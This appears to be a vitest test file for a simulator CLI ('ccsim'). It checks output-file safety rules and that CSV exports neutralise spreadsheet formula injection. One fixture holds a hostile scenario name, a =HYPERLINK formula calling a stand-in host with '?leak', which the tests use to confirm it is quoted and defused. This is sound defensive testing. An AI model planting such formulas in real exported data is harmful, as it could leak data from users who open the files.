/**
 * Output hygiene: --trace follows the rules of --out (never an input file, never a directory,
 * no overwrite without --force), and a hostile scenario name reaches no CSV as a live formula
 * or an unquoted line break.
 */
import { readFileSync, mkdirSync, writeFileSync, existsSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { EXIT, ccsim, ccsimOk, listFiles, parseCsv, scenarioYaml, tempDir } from "./helpers.js";

const HOSTILE = '=HYPERLINK("http://example.invalid/?leak","open")\r';

describe("--trace FILE", () => {
  const dir = tempDir("trace-rules");
  beforeAll(() => writeFileSync(join(dir, "small.yaml"), scenarioYaml({ replications: 1, hours: 1 })));

  it("never writes onto the scenario it reads, not even with --force (exit 3, the scenario unchanged)", () => {
    const before = readFileSync(join(dir, "small.yaml"), "utf8");
    for (const force of [[], ["--force"]]) {
      const r = ccsim(["run", "small.yaml", "-q", "--trace", "./small.yaml", ...force], { cwd: dir });
      expect(r.status).toBe(EXIT.output);
      expect(r.stderr).toMatch(/^ccsim: --trace \.\/small\.yaml is the input file small\.yaml; choose another file name/);
      expect(r.stdout).toBe("");
    }
    expect(readFileSync(join(dir, "small.yaml"), "utf8")).toBe(before);
  });

  it("refuses an existing file without --force and replaces it with --force", () => {
    writeFileSync(join(dir, "old.csv"), "keep me\n");
    const r = ccsim(["run", "small.yaml", "-q", "--trace", "old.csv"], { cwd: dir });
    expect(r.status).toBe(EXIT.output);
    expect(r.stderr).toBe("ccsim: old.csv already exists; use --force to overwrite it\n");
    expect(readFileSync(join(dir, "old.csv"), "utf8")).toBe("keep me\n");
    ccsimOk(["run", "small.yaml", "-q", "--trace", "old.csv", "--force"], { cwd: dir });
    expect(readFileSync(join(dir, "old.csv"), "utf8")).toMatch(/^scenario,replication,/);
  });

  it("a directory exits 3 at once, before simulating, naming a file to use instead", () => {
    mkdirSync(join(dir, "traces"));
    const r = ccsim(["run", "small.yaml", "-q", "--trace", "traces"], { cwd: dir });
    expect(r.status).toBe(EXIT.output);
    expect(r.stderr).toBe("ccsim: --trace traces is a directory; --trace names a file, e.g. traces/trace.csv\n");
    expect(r.stdout).toBe("");
    expect(listFiles(join(dir, "traces"))).toEqual([]);
    // Each flag names itself and a file name of its own kind, not another flag's (report.html).
    const records = ccsim(["run", "small.yaml", "-q", "--records", "traces"], { cwd: dir });
    expect(records.status).toBe(EXIT.output);
    expect(records.stderr).toBe("ccsim: --records traces is a directory; --records names a file, e.g. traces/calls.csv\n");
  });

  it("report --out onto a scenario file is refused the same way", () => {
    writeFileSync(join(dir, "page.html"), scenarioYaml({ replications: 1, hours: 1 }));
    const r = ccsim(["report", "page.html", "-q", "--out", "page.html", "--force"], { cwd: dir });
    expect(r.status).toBe(EXIT.output);
    expect(r.stderr).toContain("is the input file page.html");
  });
});

describe("a scenario named like a spreadsheet formula", () => {
  const dir = tempDir("hostile");
  beforeAll(() => {
    const yaml = scenarioYaml({ replications: 2, hours: 2 }).replace("name: small", `name: ${JSON.stringify(HOSTILE)}`);
    writeFileSync(join(dir, "a.yaml"), yaml);
    writeFileSync(join(dir, "b.yaml"), yaml.replace("constant: 14", "constant: 15"));
  });

  it("is quoted and neutralised in every CSV of run --out, run --trace and compare --out", () => {
    ccsimOk(["run", "a.yaml", "-q", "-w", "1", "--out", "run", "--trace", "trace.csv"], { cwd: dir });
    ccsimOk(["compare", "a.yaml", "b.yaml", "-q", "-w", "1", "--out", "cmp"], { cwd: dir });
    const csvs = [...listFiles(join(dir, "run")).map((f) => join("run", f)), "trace.csv", ...listFiles(join(dir, "cmp")).map((f) => join("cmp", f))].filter((f) => f.endsWith(".csv"));
    expect(csvs.length).toBeGreaterThanOrEqual(5);
    let named = 0;
    for (const f of csvs) {
      const rows = parseCsv(readFileSync(join(dir, f), "utf8"));
      for (const row of rows.slice(1)) {
        for (const cell of row) expect(cell, `${f}: a cell a spreadsheet would execute`).not.toMatch(/^[=+@\t\r]|^-(?![\d.])/);
        if (row.includes(`'${HOSTILE}`)) named++;
      }
    }
    // The name itself survives, behind the apostrophe, carriage return included.
    expect(named).toBeGreaterThan(10);
    expect(existsSync(join(dir, "trace.csv"))).toBe(true);
  });
});
